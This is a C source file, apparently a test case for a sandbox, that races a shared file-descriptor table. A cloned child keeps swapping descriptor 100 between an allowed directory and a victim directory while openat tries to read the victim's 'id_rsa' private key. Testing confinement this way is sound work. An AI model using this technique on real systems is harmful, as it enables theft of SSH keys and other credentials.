/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A table of descriptors that is shared (CLONE_FILES) without the memory's being so: another process puts the agent's directory and the
 * key's at one number in turn, and this one opens relative to it.
 */
#define ATTACK "race-descriptor"
#include "race.h"
#include <sys/prctl.h>

#define NUMBER 100

static int mine, victims;

static void change(void)
{
	dup2(victims, NUMBER);
	sched_yield();
	dup2(mine, NUMBER);
}

static int reach(void)
{
	return openat(NUMBER, "id_rsa", O_RDONLY | O_CLOEXEC);
}

static void rest(void)
{
	usleep(1000);
}

int main(int count, char **argument)
{
	pid_t child;

	(void)count;
	put("own file", text("%s/id_rsa", argument[2]), "nothing\n");
	mine = prepare("open", open(argument[2], O_PATH | O_DIRECTORY));
	victims = prepare("open", open(argument[1], O_PATH | O_DIRECTORY));
	prepare("dup2", dup2(mine, NUMBER));
	child = prepare("clone", syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0));
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;)
			change();
	}
	race(argument[2], rest, reach);
}
